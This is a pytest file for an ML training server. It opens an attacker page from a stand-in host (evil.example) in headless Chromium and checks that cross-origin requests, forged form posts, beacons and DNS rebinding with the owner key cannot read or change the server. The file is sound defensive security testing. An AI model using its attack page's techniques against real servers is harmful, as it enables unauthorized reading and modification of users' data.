"""A page in a real browser, on another origin than a server: it can neither read nor change it, whatever key it has."""

import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from numpy_engine import NumpyEngine
from served import listening

from xtrain.server.access import OWNER, Keys, ServerLimits

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update",
    # Nothing leaves this machine: one name is of another origin, and one was made to resolve to the server.
    "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.2, MAP * ~NOTFOUND, "
    "EXCLUDE 127.0.0.1",
)  # fmt: skip

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium (Debian: chromium) to open a page with"),
]

PAGE = """<!doctype html><body><script>
const server = SERVER, key = KEY, found = {};
const json = {"content-type": "application/json"};
const path = name => server + "/api/v1/" + name;
async function attempt(name, ask) {
  try {
    const answer = await ask();
    found[name] = answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
  } catch (error) { found[name] = "refused: " + error.name; }
}
function loaded(element, place, url) {
  return new Promise(done => {
    element.onload = () => done(new Response("loaded"));
    element.onerror = () => done(Promise.reject(new TypeError()));
    element[place] = url;
    document.body.append(element);
    setTimeout(() => done(new Response("nothing")), 2000);
  });
}
async function all() {
  for (const [with_, headers] of [["", {}], [" with the key", {"x-api-key": key}]]) {
    const sent = {...json, ...headers};
    await attempt("health" + with_, () => fetch(path("healthz"), {headers}));
    await attempt("read" + with_, () => fetch(path("sessions"), {headers}));
    await attempt("create" + with_, () => fetch(path("create_session"), {method: "POST", headers: sent, body: "{}"}));
    await attempt("delete" + with_, () => fetch(path("training_runs/a/checkpoints/weights/b"),
      {method: "DELETE", headers}));
    await attempt("no-cors" + with_, () => fetch(path("create_session"), {method: "POST", mode: "no-cors", headers}));
  }
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json"])
    await attempt("no-cors of " + type, () => fetch(path("create_session"),
      {method: "POST", mode: "no-cors", headers: {"content-type": type}, body: "{}", credentials: "include"}));
  await attempt("bearer", () => fetch(path("sessions"), {headers: {authorization: "Bearer " + key}}));
  await attempt("redirected", () => fetch("/to-server", {method: "POST"}));
  await attempt("beacon", async () => new Response(String(navigator.sendBeacon(path("create_session"), "{}"))));
  await attempt("image", () => loaded(new Image(), "src", path("healthz")));
  await attempt("script", () => loaded(document.createElement("script"), "src", path("healthz")));
  const frame = document.createElement("iframe");
  frame.name = "frame";
  await attempt("frame", () => loaded(frame, "src", path("healthz")));
  await attempt("inside the frame", async () => new Response(frame.contentWindow.document.body.innerText));
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: path("create_session"), target: "frame", enctype: "text/plain"});
  document.body.append(form);
  form.submit();
  await new Promise(done => setTimeout(done, 500));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
}
all();
</script></body>"""


class Attacker(BaseHTTPRequestHandler):
    """A page that attacks a server, and what it reports. What else it is asked for goes to the server as it is: a name
    that is made to resolve to the server after its page has come leads there."""

    server_url, page = "", ""
    report: dict[str, str] | None = None
    reported = threading.Event()

    def do_GET(self) -> None:
        content = self.rfile.read(int(self.headers.get("content-length", "0")))
        if self.path == "/":
            return self._answer(200, {"content-type": "text/html"}, self.page.encode())
        if self.path == "/report":
            Attacker.report = json.loads(content)
            Attacker.reported.set()
            return self._answer(204, {}, b"")
        if self.path == "/to-server":
            return self._answer(307, {"location": f"{self.server_url}/api/v1/create_session"}, b"")
        address = urlsplit(self.server_url)
        upstream = HTTPConnection(address.hostname or "", address.port)
        upstream.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            upstream.putheader(name, value)
        upstream.endheaders(content)
        found = upstream.getresponse()
        return self._answer(found.status, {"content-type": found.headers["content-type"]}, found.read())

    do_POST = do_DELETE = do_OPTIONS = do_GET

    def _answer(self, status: int, headers: dict[str, str], content: bytes) -> None:
        self.send_response(status)
        for name, value in (headers | {"content-length": str(len(content))}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def attacker(host: str, port: int) -> Iterator[int]:
    """Its port."""
    listener = ThreadingHTTPServer((host, port), Attacker)
    thread = threading.Thread(target=listener.serve_forever)
    thread.start()
    yield listener.server_port
    listener.shutdown()
    listener.server_close()
    thread.join()


def opened(url: str, profile: Path, **values: str) -> dict[str, str]:
    """What the page at an address reports. values: of its script."""
    Attacker.page, Attacker.report = PAGE, None
    for name, value in values.items():
        Attacker.page = Attacker.page.replace(name, json.dumps(value), 1)
    Attacker.reported.clear()
    with profile.with_suffix(".log").open("wb") as log:
        browser = subprocess.Popen(
            [str(CHROMIUM), *FLAGS, f"--user-data-dir={profile}", url],
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
            start_new_session=True,
        )
    try:
        assert Attacker.reported.wait(90), profile.with_suffix(".log").read_text()[-2000:]
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
    assert Attacker.report is not None
    return Attacker.report


@pytest.fixture(params=["a key that was set", "a key that was made"])
def keys(request: pytest.FixtureRequest, tmp_path: Path) -> Keys:
    return Keys.read("tml-set") if request.param == "a key that was set" else Keys.kept(tmp_path / "key")


def sessions(url: str, keys: Keys) -> list[Any]:
    return httpx.get(f"{url}/api/v1/sessions", headers={"x-api-key": keys.of[OWNER]}).json()["sessions"]


def test_a_page_of_another_origin_reads_and_changes_nothing(tmp_path: Path, keys: Keys) -> None:
    with attacker("127.0.0.1", 0) as port, listening(NumpyEngine(), tmp_path / "server", keys=keys) as url:
        Attacker.server_url = url
        found = opened(f"http://evil.example:{port}/", tmp_path / "profile", SERVER=url, KEY=keys.of[OWNER])
        assert sessions(url, keys) == []
    harmless = {"opaque", "refused: TypeError", "refused: SecurityError", "refused: NotFoundError"}
    harmless |= {"200 true", "200 nothing", "200 loaded"}  # a beacon was sent, and a frame has something in it
    assert set(found.values()) <= harmless, found
    assert len(found) == 21 and found["inside the frame"].startswith("refused")
    assert found["read with the key"] == found["create with the key"] == found["image"] == "refused: TypeError"


def test_a_page_whose_name_leads_to_the_server_reads_and_changes_nothing(tmp_path: Path, keys: Keys) -> None:
    """DNS rebinding: for the browser the server is of the page's origin, so it lets the page read every answer."""
    with listening(NumpyEngine(), tmp_path / "server", keys=keys) as url:
        Attacker.server_url = url
        with attacker("127.0.0.2", urlsplit(url).port or 0) as port:
            origin = f"http://rebound.example:{port}"
            found = opened(f"{origin}/", tmp_path / "profile", SERVER=origin, KEY=keys.of[OWNER])
        assert sessions(url, keys) == []
    answers = {name: answer for name, answer in found.items() if answer.startswith(tuple("123456789"))}
    assert {"health", "read with the key", "create with the key", "delete with the key"} <= answers.keys()
    for name in ("health", "read with the key", "create with the key", "no-cors with the key", "bearer"):
        assert found[name].startswith("421 ") and "rebound.example" in found[name], (name, found[name])
    assert "rebound.example` is no name of this server" in found["inside the frame"]


def test_a_page_whose_origin_is_listed_reads_and_changes(tmp_path: Path, keys: Keys) -> None:
    """So the tests above can fail."""
    with attacker("127.0.0.1", 0) as port:
        origin, limits = f"http://evil.example:{port}", ServerLimits(poll=2.0)
        with listening(NumpyEngine(), tmp_path / "server", limits, keys=keys, origins=[origin]) as url:
            Attacker.server_url = url
            found = opened(f"{origin}/", tmp_path / "profile", SERVER=url, KEY=keys.of[OWNER])
            assert len(sessions(url, keys)) == 1
    assert found["create with the key"].startswith('200 {"type":"create_session"'), found
    assert found["read with the key"] == '200 {"sessions":[]}' and found["bearer"].startswith('200 {"sessions":["')
    assert found["delete with the key"].startswith("404 ") and found["read"].startswith("401 ")
